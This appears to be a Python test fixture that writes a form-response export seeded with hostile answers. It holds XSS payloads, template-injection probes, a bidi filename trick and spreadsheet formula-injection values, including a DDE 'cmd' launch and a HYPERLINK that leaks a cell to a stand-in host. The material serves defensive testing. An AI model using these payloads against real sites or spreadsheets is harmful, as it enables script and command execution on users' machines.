"""Answers of somebody who means harm, and an export that holds them wherever a person may write."""

from tests import demonstration
from tests.responses.google_forms import write_rows

RAN = "window.ran = (window.ran || 0) + 1"
HOSTILE = (
    f"<script>{RAN}</script>",
    f'<img src=x onerror="{RAN}">',
    f'<svg onload="{RAN}"><animate onbegin="{RAN}" attributeName=x dur=1s></svg>',
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f"</td></table></textarea></style></title>--></script><script>{RAN}</script>\"'>",
    f'<details open ontoggle="{RAN}"><summary>x</summary></details><body onload="{RAN}">',
    f'[lire](javascript:{RAN}) <a href="javascript:{RAN}">x</a> ![x](x" onerror="{RAN})',
    "$\\href{javascript:" + RAN + "}{x}$ $$\\unicode{x3c}script\\unicode{x3e}$$",
    "{{ ''.__class__ }} {% raw %} ${7*7} #{7*7}",
    "\u202egnp.exe\u2066\u200bx\u0007",
    '=HYPERLINK("http://a.example?"&A1;"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|x",
    "-1+cmd|x",
    "@SUM(1+1)",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
)


def export(path):
    """The demonstration's export, with a hostile name, firm, text and answer on every line."""
    header, *rows = demonstration.export()
    text = next(place for place, row in enumerate(zip(*rows, strict=True)) if "=1+1" in row)
    answer = next(place for place, title in enumerate(header) if "[" in title)
    for line, row in enumerate(rows):
        hostile = HOSTILE[line % len(HOSTILE)]
        row[2], row[3], row[text] = hostile, hostile, hostile
        row[answer] = hostile if line % 6 == 5 else row[answer]
    return write_rows(path, [header, *rows])


def with_a_hostile_column(path):
    """The demonstration's export with one column more, whose title is hostile: it is refused, and quoted."""
    header, *rows = demonstration.export()
    return write_rows(path, [[*header, HOSTILE[1]], *([*row, "x"] for row in rows)])
